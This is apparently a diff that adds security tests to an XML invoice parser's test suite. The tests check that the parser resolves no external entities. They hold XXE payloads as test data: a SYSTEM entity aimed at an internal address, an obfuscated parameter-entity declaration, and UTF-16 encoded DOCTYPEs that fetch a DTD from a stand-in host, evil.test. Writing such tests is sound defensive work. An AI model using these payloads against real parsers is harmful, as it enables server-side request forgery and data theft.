@@ -171,3 +171,26 @@ def test_security_parameter_entity(candidate, network):
         outcome = attack(candidate, f"{doctype}{BODY}".encode(), CATALOG)
         assert not _takes(outcome, value)
         assert network.connections == []
+
+
+def test_security_entity_in_the_text(candidate, network):
+    """An entity of the invoice, which stands between its lines, has an address in the network."""
+    address = "http://10.0.0.5/status"
+    network.answer(address, body="ok")
+    own = f"[<!ENTITY x SYSTEM '{address}'>]"
+    body = "<invoice>&x;<line sku='A7' qty='2'/></invoice>"
+    for doctype in (f"{DOCTYPE[:-1]} {own}>", f"<!DOCTYPE invoice {own}>"):
+        attack(candidate, f"{doctype}{body}".encode(), CATALOG)
+        assert network.connections == []
+
+
+def test_security_declared_in_other_ways(candidate, network):
+    """A foreign DTD is declared in UTF-16, or by the text of another parameter entity."""
+    address = "http://evil.test/part.dtd"
+    value = _served(network, address)
+    inner = f"<!ENTITY &#37; q &#83;YSTEM '{address}'>"
+    hidden = f'<!DOCTYPE invoice [<!ENTITY % p "{inner}"> %p; %q;]>{BODY}'
+    plain = f"<!DOCTYPE invoice SYSTEM '{address}'>{BODY}"
+    for document in (hidden.encode(), plain.encode("utf-16"), plain.encode("utf-16-le")):
+        assert not _takes(attack(candidate, document, CATALOG), value)
+        assert network.connections == []
